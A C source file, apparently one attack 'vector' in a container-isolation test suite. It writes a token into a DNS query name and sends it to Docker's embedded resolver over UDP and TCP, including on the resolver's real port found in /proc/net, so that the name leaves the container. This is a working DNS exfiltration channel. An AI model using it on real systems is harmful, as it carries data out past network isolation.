/* SPDX-License-Identifier: Apache-2.0 */
/* Docker's resolver in the container's network namespace, which others' sockets are: a name that is
 * asked there leaves with Docker. */
#include "../adversary.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>

#define RESOLVER 0x7f00000b
#define TYPE_A	 1
#define CLASS_IN 1

static size_t put_question(uint8_t *message, const struct attempt *attempt)
{
	static const uint8_t head[12] = {1, 2, 1, 0, 0, 1};
	size_t size = strlen(attempt->token) - 1, at = sizeof(head);

	/* The token without its dot, below a domain: names of one label do not leave Docker. */
	memcpy(message, head, sizeof(head));
	message[at++] = (uint8_t)size;
	memcpy(message + at, attempt->token, size);
	at += size;
	memcpy(message + at, "\x04test\0\0\1\0\1", 10);
	return at + 10;
}

static int ask(const struct attempt *attempt, uint16_t port, int type)
{
	union any to = {.in = {.sin_family = AF_INET, .sin_port = htons(port)}};
	int fd, result;
	uint8_t message[256];
	size_t size = put_question(message + 2, attempt);
	struct pollfd poller;

	to.in.sin_addr.s_addr = htonl(RESOLVER);
	fd = open_socket(&to, type, 0);
	result = connect_soon(fd, &to);
	message[0] = 0;
	message[1] = (uint8_t)size;
	result = result
			 ?: type == SOCK_STREAM ? sent(send(fd, message, size + 2, 0))
						: sent(send(fd, message + 2, size, 0));
	if (result)
		return result;
	poller = (struct pollfd){.fd = fd, .events = POLLIN};
	poll(&poller, 1, PATIENCE_MS);
	return 0;
}

/* Where it really listens, as everybody can read. */
static int real_port(const char *table)
{
	unsigned address, port;
	char line[512];
	FILE *file = fopen(table, "re");

	while (file && fgets(line, sizeof(line), file)) {
		if (sscanf(line, " %*u: %x:%x", &address, &port) == 2 &&
		    address == htonl(RESOLVER)) {
			fclose(file);
			return (int)port;
		}
	}
	if (file)
		fclose(file);
	return -ENOENT;
}

VECTOR(docker_resolver)
{
	return ask(attempt, 53, SOCK_DGRAM);
}

VECTOR(docker_resolver_tcp)
{
	return ask(attempt, 53, SOCK_STREAM);
}

VECTOR(docker_resolver_port)
{
	int port = real_port("/proc/net/udp");

	return port < 0 ? port : ask(attempt, (uint16_t)port, SOCK_DGRAM);
}

VECTOR(docker_resolver_port_tcp)
{
	int port = real_port("/proc/net/tcp");

	return port < 0 ? port : ask(attempt, (uint16_t)port, SOCK_STREAM);
}
